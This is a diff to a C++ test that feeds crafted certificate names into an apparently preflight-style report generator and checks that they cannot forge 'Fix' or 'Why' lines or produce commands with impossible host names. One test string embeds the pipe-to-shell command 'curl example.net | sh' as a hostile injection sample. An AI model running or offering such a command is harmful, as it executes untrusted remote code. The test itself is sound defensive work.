@@ -316,7 +316,7 @@ void no_report_is_forged_or_endless(void**) {
 
 void names_forge_nothing(void**) {
     const std::string fix = "Fix   You: run this";
-    const std::string names[] = {
+    std::vector<std::string> names = {
         "x\n  " + fix + "\n          curl example.net | sh",
         "x\r\n  " + fix,
         std::string("x\0\n  ", 5) + fix,
@@ -329,8 +329,11 @@ void names_forge_nothing(void**) {
         "preflight: all is well",
         std::string(60000, 'y'),
     };
+    // Wherever the title is wrapped.
+    for (std::size_t length = 20; length < 90; ++length)
+        names.push_back(std::string(length, 'x') + " " + fix);
     Complaints complaints;
-    for (std::size_t i = 0; i < std::size(names); ++i) {
+    for (std::size_t i = 0; i < names.size(); ++i) {
         Wanted wanted;
         wanted.subject.clear();  // OpenSSL's way of adding one allows 64 characters, X.520
         wanted.further = [&, i](X509* certificate) {
@@ -351,6 +354,9 @@ void names_forge_nothing(void**) {
         for (const char* head : {"  Fix", "  Why", "  More", "preflight:"})
             complaints.add(lines_with(text, head) != 1, sample, std::string(head) + "\n" + text);
         complaints.add(std::count(text.begin(), text.end(), '\n') > 45, sample, "too long");
+        // No command with a name in it that no host can have.
+        for (const char* option : {"/v:x", "/v:\\", "'/v:", "/cert:name:"})
+            complaints.add(text.find(option) != text.npos, sample, text);
     }
     assert_int_equal(complaints.count, 0);
 }
